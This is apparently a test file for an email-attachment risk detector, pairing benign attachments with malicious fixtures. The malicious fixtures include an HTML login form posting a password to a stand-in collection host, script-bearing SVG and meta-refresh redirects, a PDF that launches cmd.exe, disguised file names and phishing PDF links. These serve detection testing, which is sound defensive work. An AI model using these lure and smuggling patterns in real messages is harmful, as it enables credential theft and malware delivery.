import { riskyAttachment } from '../../../src/engine/detectors/risky-attachment';
import { testDetector } from '../../support/detector-tester';
import {
  isoHead,
  latin1,
  LNK_HEAD,
  makeZip,
  oleWithMacrosHead,
  OLE_HEAD,
  PDF_HEAD,
  PE_HEAD,
  PNG_HEAD,
  signedProfileHead,
} from '../attachments/make-files';

const DOCX_HEAD = makeZip([{ name: '[Content_Types].xml' }, { name: 'word/document.xml' }]);

testDetector(riskyAttachment, {
  valid: [
    { name: 'PDF invoice', message: { attachments: [{ filename: 'Fattura_2024_118.pdf', contentType: 'application/pdf', head: PDF_HEAD }] } },
    {
      name: "PDF invoice linking to the company's own site",
      message: { attachments: [{ filename: 'Fattura_2024_119.pdf', contentType: 'application/pdf', head: latin1('%PDF-1.7\n4 0 obj <</Type /Annot /Subtype /Link /A <</S /URI /URI (https://www.enel.it/area-clienti)>> >>') }] },
    },
    { name: 'Word document without macros', message: { attachments: [{ filename: 'Contratto.docx', contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', head: DOCX_HEAD }] } },
    { name: 'legacy Excel file without macros', message: { attachments: [{ filename: 'budget.xls', contentType: 'application/vnd.ms-excel', head: OLE_HEAD }] } },
    { name: 'inline logo image', message: { attachments: [{ filename: 'image001.png', contentType: 'image/png', disposition: 'inline', head: PNG_HEAD, contentId: '<logo>' }] } },
    { name: 'S/MIME signature part', message: { attachments: [{ filename: 'smime.p7s', contentType: 'application/pkcs7-signature', head: Uint8Array.from([0x30, 0x82, 0x0b, 0x18, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02]) }] } },
    { name: 'calendar invitation', message: { attachments: [{ filename: 'invite.ics', contentType: 'text/calendar', head: latin1('BEGIN:VCALENDAR\r\nVERSION:2.0\r\n') }] } },
    { name: 'patch file on a mailing list', message: { attachments: [{ filename: '0001-fix.patch', contentType: 'text/x-patch', head: latin1('--- a/x.c\n+++ b/x.c\n') }] } },
    { name: 'plain SVG picture', message: { attachments: [{ filename: 'chart.svg', contentType: 'image/svg+xml', head: latin1('<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>') }] } },
    { name: 'JPEG named .png', message: { attachments: [{ filename: 'photo.png', contentType: 'image/png', head: Uint8Array.from([0xff, 0xd8, 0xff, 0xe0]) }] } },
    {
      name: "protected bank statement whose password is described, not given",
      message: {
        text: "In allegato l'estratto conto. Per aprirlo usa come password: la tua data di nascita (GGMMAAAA).",
        attachments: [{ filename: 'Estratto_conto_2026_11.pdf', contentType: 'application/pdf', head: PDF_HEAD }],
      },
    },
    {
      name: 'a temporary password in a message whose attachment is a picture',
      message: { text: 'Welcome! Your temporary password: Tx84kq. Our logo is attached.', attachments: [{ filename: 'logo.png', contentType: 'image/png', head: PNG_HEAD }] },
    },
  ],
  invalid: [
    {
      name: 'Windows program',
      message: { attachments: [{ filename: 'setup.exe', head: PE_HEAD }] },
      findings: [{ messageId: 'runnable', severity: 'high', data: { file: 'setup.exe', kind: 'executable', type: 'EXE' }, evidence: 'setup.exe' }],
    },
    {
      name: 'script',
      message: { attachments: [{ filename: 'Payment_Advice.vbs', contentType: 'text/plain' }] },
      findings: [{ messageId: 'runnable', severity: 'high', data: { kind: 'script' } }],
    },
    {
      name: 'shortcut',
      message: { attachments: [{ filename: 'Documento.lnk', head: LNK_HEAD }] },
      findings: [{ messageId: 'runnable', severity: 'high', data: { kind: 'shortcut' } }],
    },
    {
      name: 'internet shortcut is medium',
      message: { attachments: [{ filename: 'Liberalism in America.url', head: latin1('[InternetShortcut]\r\nURL=http://example.com/') }] },
      findings: [{ messageId: 'runnable', severity: 'medium' }],
    },
    {
      name: 'disk image',
      message: { attachments: [{ filename: 'Ordine_7781.iso', head: isoHead() }] },
      findings: [{ messageId: 'runnable', severity: 'high', data: { kind: 'disk-image' } }],
    },
    {
      name: 'double extension',
      message: { attachments: [{ filename: 'invoice.pdf.exe', head: PE_HEAD }] },
      findings: [{ messageId: 'doubleExtension', severity: 'high', data: { real: 'exe', shown: 'pdf' } }],
    },
    {
      name: 'HTML page disguised as a spreadsheet',
      message: { attachments: [{ filename: 'PO45638 - PO76483.Xls.htm', contentType: 'text/html', head: latin1('<html><body>x</body></html>') }] },
      findings: [{ messageId: 'doubleExtension', data: { real: 'htm', shown: 'xls' } }],
    },
    {
      name: 'right-to-left override in the name',
      message: { attachments: [{ filename: 'Fattura\u202Efdp.exe', head: PE_HEAD }] },
      findings: [{ messageId: 'disguisedName', severity: 'high', data: { file: 'Fattura<U+202E>fdp.exe' }, evidence: 'Fattura\u202Efdp.exe' }],
    },
    {
      name: 'invisible padding in the name',
      message: { attachments: [{ filename: 'reviewdocument_txtid$3545767\u034f\u034f.RTF', contentType: 'application/rtf', head: latin1('{\\rtf1') }] },
      findings: [{ messageId: 'disguisedName', severity: 'medium' }],
    },
    {
      name: 'program named as a PDF',
      message: { attachments: [{ filename: 'Estratto_conto.pdf', contentType: 'application/pdf', head: PE_HEAD }] },
      findings: [{ messageId: 'typeMismatch', severity: 'high', data: { actual: 'EXE' } }],
    },
    {
      name: 'archive named as a PDF',
      message: { attachments: [{ filename: 'scan.pdf', contentType: 'application/pdf', head: makeZip([{ name: 'scan.txt' }]) }] },
      findings: [{ messageId: 'typeMismatch', severity: 'medium', data: { actual: 'ZIP' } }],
    },
    {
      name: 'configuration profile',
      message: { attachments: [{ filename: 'email-microsoft.mobileconfig', head: signedProfileHead() }] },
      findings: [{ messageId: 'deviceProfile', severity: 'high' }],
    },
    {
      name: 'configuration profile without an extension',
      message: { attachments: [{ filename: 'ATT01399933134', head: signedProfileHead() }] },
      findings: [{ messageId: 'deviceProfile', severity: 'high' }],
    },
    {
      name: 'macro-enabled workbook',
      message: { attachments: [{ filename: 'Preventivo.xlsm' }] },
      findings: [{ messageId: 'macros', severity: 'medium' }],
    },
    {
      name: 'docx carrying a VBA project',
      message: { attachments: [{ filename: 'Offerta.docx', head: makeZip([{ name: 'word/document.xml' }, { name: 'word/vbaProject.bin' }]) }] },
      findings: [{ messageId: 'macros' }],
    },
    {
      name: 'legacy .doc with macros',
      message: { attachments: [{ filename: 'Curriculum.doc', head: oleWithMacrosHead() }] },
      findings: [{ messageId: 'macros' }],
    },
    {
      name: 'HTML attachment with a login form (smuggling)',
      message: { attachments: [{ filename: 'PO#198945.html', contentType: 'text/html', head: latin1('<html><form action="https://collect.example/p" method="post"><input type=password>') }] },
      findings: [{ messageId: 'htmlSmuggling', severity: 'high', data: { tricks: 'form' } }],
    },
    {
      name: 'SVG with a script',
      message: { attachments: [{ filename: 'voicemail.svg', contentType: 'image/svg+xml', head: latin1('<svg xmlns="http://www.w3.org/2000/svg"><script>location.href="https://x.example"</script></svg>') }] },
      findings: [{ messageId: 'htmlSmuggling', data: { tricks: 'script' } }],
    },
    {
      name: 'HTML file read whole, without tricks: a static document (billing platforms attach invoices so), low',
      message: { attachments: [{ filename: 'Remittance.htm', contentType: 'text/html', head: latin1('<html><p>Paid</p></html>') }] },
      findings: [{ messageId: 'htmlAttachment', severity: 'low' }],
    },
    {
      name: 'HTML file read only in part: what the rest does is unknown, medium',
      message: { attachments: [{ filename: 'Remittance.htm', contentType: 'text/html', size: 5_000_000, head: latin1('<html><p>Paid</p>') }] },
      findings: [{ messageId: 'htmlAttachment', severity: 'medium' }],
    },
    {
      name: 'HTML file whose content the mail client did not give: medium',
      message: { attachments: [{ filename: 'Remittance.htm', contentType: 'text/html', size: 2048 }] },
      findings: [{ messageId: 'htmlAttachment', severity: 'medium' }],
    },
    {
      name: 'HTML content named as a PDF, with a refresh',
      message: { attachments: [{ filename: 'Invoice.pdf', contentType: 'application/pdf', head: latin1('<html><head><meta http-equiv="refresh" content="0;url=https://x.example"></head></html>') }] },
      findings: [{ messageId: 'htmlSmuggling', data: { tricks: 'meta-refresh' } }],
    },
    {
      name: 'ZIP containing a script',
      message: { attachments: [{ filename: 'Documents.zip', contentType: 'application/zip', head: makeZip([{ name: 'readme.txt' }, { name: 'Invoice_0042.pdf.js' }]) }] },
      findings: [{ messageId: 'archiveContent', severity: 'high', data: { inner: 'Invoice_0042.pdf.js' }, evidence: 'Documents.zip' }],
    },
    {
      name: 'password-protected ZIP',
      message: { attachments: [{ filename: 'Fattura.zip', head: makeZip([{ name: 'Fattura.pdf', encrypted: true }]) }] },
      findings: [{ messageId: 'encryptedArchive', severity: 'medium' }],
    },
    {
      name: 'password-protected ZIP with the password in the body',
      message: { text: 'In allegato la fattura. Password: 4471', attachments: [{ filename: 'Fattura.zip', head: makeZip([{ name: 'Fattura.pdf', encrypted: true }]) }] },
      findings: [{ messageId: 'encryptedArchive', severity: 'high' }],
    },
    {
      name: 'PDF whose password the body gives',
      message: {
        text: 'Prezado cliente, veja como resgatar seus pontos no arquivo em anexo. Senha PDF: 123 Protocolo: 88812',
        attachments: [{ filename: 'Kx7pQ2.pdf', contentType: 'application/pdf', head: PDF_HEAD }],
      },
      findings: [{ messageId: 'passwordGiven', severity: 'medium', data: { file: 'Kx7pQ2.pdf' }, evidence: 'Senha PDF: 123' }],
    },
    {
      name: 'Word file whose password the body gives, a few words between',
      message: {
        text: 'Please review the attached remittance. Password for the document: 2024ab',
        attachments: [{ filename: 'Remittance.docx', contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', head: DOCX_HEAD }],
      },
      findings: [{ messageId: 'passwordGiven', severity: 'medium', evidence: 'Password for the document: 2024ab' }],
    },
    {
      name: 'ZIP of documents is a weak signal',
      message: { attachments: [{ filename: 'FotoCivicas.zip', head: makeZip([{ name: 'foto1.jpg' }, { name: 'foto2.jpg' }]) }] },
      findings: [{ messageId: 'archive', severity: 'low' }],
    },
    {
      name: 'RAR archive (not listable)',
      message: { attachments: [{ filename: 'docs.rar', head: latin1('Rar!\x1a\x07\x01\x00') }] },
      findings: [{ messageId: 'archive', severity: 'low' }],
    },
    {
      name: 'PDF that launches a program',
      message: { attachments: [{ filename: 'Bolletta.pdf', head: latin1('%PDF-1.4\n1 0 obj <</OpenAction <</S /Launch /F (cmd.exe)>> >>') }] },
      findings: [{ messageId: 'pdfScript', severity: 'medium', data: { actions: '/Launch' } }],
    },
    {
      name: 'PDF whose only button opens a shortener',
      message: { attachments: [{ filename: 'Your_Mining_balance_0.7495_BTC.pdf', contentType: 'application/pdf', head: latin1('%PDF-1.4\n5 0 obj <</Type /Annot /Subtype /Link /A <</S /URI /URI (https://bit.ly/3Yw04dm)>> >>') }] },
      findings: [{ messageId: 'pdfLink', severity: 'low', data: { place: 'bit.ly' }, evidence: 'https://bit.ly/3Yw04dm' }],
    },
    {
      name: 'PDF link to a cheap-TLD page behind a Google redirect, written as a hex string',
      message: {
        attachments: [
          {
            filename: 'Open 52.pdf',
            contentType: 'application/pdf',
            head: latin1(`%PDF-1.4\n6 0 obj <</S /URI /URI <${Buffer.from('https://www.google.com/url?q=https://platform3355.top/1wq4W8&sa=D').toString('hex')}>>>`),
          },
        ],
      },
      findings: [{ messageId: 'pdfLink', data: { file: 'Open 52.pdf', place: 'platform3355.top' } }],
    },
    {
      name: 'PDF link to a storage-bucket page',
      message: { attachments: [{ filename: 'atualizacao de pontos.pdf', contentType: 'application/pdf', head: latin1('%PDF-1.5\n<</URI(https://fzjujhchal19.z8.web.core.windows.net/)>>') }] },
      findings: [{ messageId: 'pdfLink', data: { place: 'fzjujhchal19.z8.web.core.windows.net' } }],
    },
    {
      name: 'one finding per risky attachment',
      message: { attachments: [{ filename: 'a.exe', head: PE_HEAD }, { filename: 'ok.pdf', head: PDF_HEAD }, { filename: 'b.hta' }] },
      findings: [{ messageId: 'runnable', evidence: 'a.exe' }, { messageId: 'runnable', evidence: 'b.hta' }],
    },
  ],
});
